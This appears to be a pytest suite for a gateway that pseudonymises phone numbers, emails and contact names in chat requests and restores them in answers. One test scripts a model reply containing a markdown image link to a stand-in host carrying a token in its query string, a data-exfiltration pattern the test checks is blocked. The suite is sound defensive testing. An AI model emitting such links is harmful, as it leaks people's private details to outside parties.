"""A person's values leave as tokens, and come back in the answer, and nowhere they could be sent away from."""

import json
import re

import pytest

from conftest import demo_gate
from partner_side import asked, script

PHONE, EMAIL = "13800138000", "lin@example.com"
TOKEN = re.compile(r"⟦(?:phone|email|电话|邮箱)·[2-9A-HJKMNP-Z]{6}⟧")


def chat(gate, content, stream=False, key="yk_demo_us", headers=None, **more):
    body = {"model": "assistant.chat", "stream": stream, "messages": [{"role": "user", "content": content}], **more}
    return gate.post("/v1/chat/completions", body, key=key, headers=headers)


def said(answer):
    """The text of a chunked answer."""
    lines = [line[6:] for line in answer.text.splitlines() if line.startswith("data: {")]
    deltas = [choice["delta"] for line in lines for choice in json.loads(line)["choices"]]
    return "".join(delta.get("content") or "" for delta in deltas)


def tokens_of(gate, conversation, *contents, **options):
    """The tokens that stand for what is in these texts, in one conversation."""
    for content in contents:
        answer = chat(gate, content, prompt_cache_key=conversation, **options)
        assert answer.status == 200, answer.text
    found = TOKEN.findall(asked(gate))
    assert len(found) >= len(contents)
    return found[-len(contents):]


def test_values_leave_as_tokens_and_come_back(own_demo):
    answer = chat(own_demo, f"Write to {EMAIL} or ring {PHONE}, I said {EMAIL}.")
    left = asked(own_demo)
    assert EMAIL not in left and PHONE not in left
    first, second, third = TOKEN.findall(left)[-3:]
    assert first == third != second, "one value has one token"
    assert "copy its token exactly" in left, "the model is told what tokens are"
    # The emulated partner repeats what it was asked.
    content = answer.json["choices"][0]["message"]["content"]
    assert f"{EMAIL} or ring {PHONE}" in content
    notices = {notice["code"]: notice for notice in answer.json["yumen"]["notices"]}
    assert notices["pii.email"]["action"] == "pseudonymise" and notices["pii.email"]["count"] == 2


def test_without_values_the_model_is_told_nothing(own_demo):
    chat(own_demo, "Say hello.")
    assert "⟦" not in asked(own_demo)


def test_a_conversation_keeps_its_tokens_and_shares_none(own_demo):
    [first] = tokens_of(own_demo, "one", f"Ring {PHONE}.")
    [again] = tokens_of(own_demo, "one", f"I said {PHONE}!")
    [other] = tokens_of(own_demo, "two", f"Ring {PHONE}.")
    assert first == again != other


def test_a_conversation_is_one_persons(own_demo):
    def token(person, **options):
        [token] = tokens_of(own_demo, "one", f"Ring {PHONE}.", headers={"Yumen-Person": person}, **options)
        return token

    assert token("wei") == token("wei")
    assert len({token("wei"), token("li"), *tokens_of(own_demo, "one", f"Ring {PHONE}.")}) == 3


@pytest.mark.parametrize("path", ["chat", "feature"])
def test_a_header_names_the_conversation_too(own_demo, path):
    def token(name):
        headers = {"Yumen-Conversation": name} if name else {}
        body = {"input": {"messages": [{"role": "user", "content": f"Ring {PHONE}."}]}, "language": "en"}
        if path == "chat":
            answer = chat(own_demo, f"Ring {PHONE}.", headers=headers, prompt_cache_key="same")
        else:
            answer = own_demo.post("/v1/features/assistant.chat", body, key="yk_demo_us", headers=headers)
        assert answer.status == 200, answer.text
        return TOKEN.findall(asked(own_demo))[-1]

    assert token("one") == token("one") != token("two")
    assert path == "chat" or token(None) != token(None), "without a name it is one request long"
    answer = chat(own_demo, "Say hello.", headers={"Yumen-Conversation": "x" * 257})
    assert (answer.status, answer.json["error"]["code"]) == (422, "input_invalid")


def test_tokens_outlive_a_restart_and_are_the_same_at_a_gate_with_the_same_key(tmp_path):
    wei, key = {"Yumen-Person": "wei"}, tmp_path / "one" / "keys" / "pseudonym.key"
    with demo_gate(tmp_path / "one") as gate:
        before, mail = tokens_of(gate, "one", f"Ring {PHONE}.", f"Ring {PHONE} or {EMAIL}.", headers=wei)[-2:]
    assert key.stat().st_mode & 0o077 == 0
    with demo_gate(tmp_path / "one") as gate:
        # The mail's turn comes without the telephone's before it.
        assert tokens_of(gate, "one", f"Write to {EMAIL}.", headers=wei) == [mail]
        assert tokens_of(gate, "one", f"I said {PHONE}!", headers=wei) == [before]
        # The answer to an earlier turn, which the app has as it was restored, is tokenised as it was.
        script(gate, {"text": f"I rang {before}."})
        assert f"I rang {PHONE}." in chat(gate, f"Ring {PHONE}.", prompt_cache_key="one", headers=wei).text
        (tmp_path / "two" / "keys").mkdir(parents=True)
        (tmp_path / "two" / "keys" / "pseudonym.key").write_text(key.read_text())
        with demo_gate(tmp_path / "two") as second, demo_gate(tmp_path / "three") as stranger:
            assert tokens_of(second, "one", f"And {PHONE}?", headers=wei) == [before]
            assert tokens_of(stranger, "one", f"And {PHONE}?", headers=wei) != [before]


@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_is_restored_in_text_and_never_in_a_link(own_demo, stream):
    [token] = tokens_of(own_demo, "one", f"Ring {PHONE}.")
    link = f"![x](https://lantern.example/?p={token})"
    script(own_demo, {"text": f"Ring {token}! {link} And ⟦phone·A7K2QX⟧."})
    answer = chat(own_demo, f"Ring {PHONE}.", stream=stream, prompt_cache_key="one")
    text = said(answer) if stream else answer.json["choices"][0]["message"]["content"]
    assert f"Ring {PHONE}! ![x](https://lantern.example/?p=⟦phone⟧) And ⟦phone⟧." in text
    assert "pseudonym.withheld" in answer.text and "pseudonym.unresolved" in answer.text


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("own", [False, True])
def test_only_the_persons_own_tools_get_values(own_demo, stream, own):
    [token] = tokens_of(own_demo, "one", f"Ring {PHONE}.")
    script(own_demo, {"calls": [{"name": "dial", "arguments": {"number": token}}]})
    tool = {"type": "function", "function": {"name": "dial", "parameters": {"type": "object"}}}
    answer = chat(own_demo, f"Ring {PHONE}.", stream=stream, prompt_cache_key="one", tools=[tool],
                  headers={"Yumen-Own-Tools": "calendar, dial"} if own else None)
    if stream:
        lines = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
        calls = [call for line in lines for choice in line["choices"] for call in choice["delta"].get("tool_calls") or []]
        arguments = "".join(call["function"].get("arguments") or "" for call in calls)
    else:
        [call] = answer.json["choices"][0]["message"]["tool_calls"]
        arguments = call["function"]["arguments"]
    assert json.loads(arguments) == {"number": PHONE if own else "⟦phone⟧"}


def test_a_header_that_names_no_tools_is_refused(demo):
    answer = chat(demo, "Say hello.", headers={"Yumen-Own-Tools": "a b"})
    assert (answer.status, answer.json["error"]["code"]) == (422, "input_invalid")


def test_a_token_that_somebody_wrote_is_never_resolved(own_demo):
    [token] = tokens_of(own_demo, "one", f"Ring {PHONE}.")
    chat(own_demo, f"My number is {PHONE}. The mail says {token}.", prompt_cache_key="one")
    assert "The mail says [phone]" in asked(own_demo).splitlines()[-1]


@pytest.mark.parametrize("stream", [False, True])
def test_a_contact_whom_no_rule_knows_leaves_as_a_token_and_comes_back(own_demo, stream):
    words = "Give the kettle fox a blue cup, please."

    def says(**more):
        body = {"input": {"messages": [{"role": "user", "content": words}]}, "language": "en", **more}
        headers = {"Accept": "text/event-stream"} if stream else None
        answer = own_demo.post("/v1/features/assistant.chat", body, key="yk_demo_us", headers=headers)
        assert answer.status == 200, answer.text
        return answer.text

    says()
    assert words in asked(own_demo), "nothing says that it is a name"
    told = says(contacts=["Kettle Fox", "Nobody Else"])
    last = asked(own_demo).splitlines()[-1]
    assert "fox" not in last.lower() and "Nobody" not in last
    assert re.search(r"Give the ⟦name·\w{6}⟧ a blue cup, please\.", last)
    # The emulated partner repeats what it was asked.
    assert words in told and "pii.name" in told
    says()
    assert words in asked(own_demo).splitlines()[-1], "the next request knows nothing of them"


@pytest.mark.parametrize("contacts", [["a"] * 1001, ["a" * 65], "Kettle Fox", [1]])
def test_too_many_or_too_long_contacts_are_refused(demo, contacts):
    body = {"input": {"messages": [{"role": "user", "content": "hello"}]}, "language": "en", "contacts": contacts}
    answer = demo.post("/v1/features/assistant.chat", body, key="yk_demo_us")
    assert (answer.status, answer.json["code"]) == (422, "input_invalid")
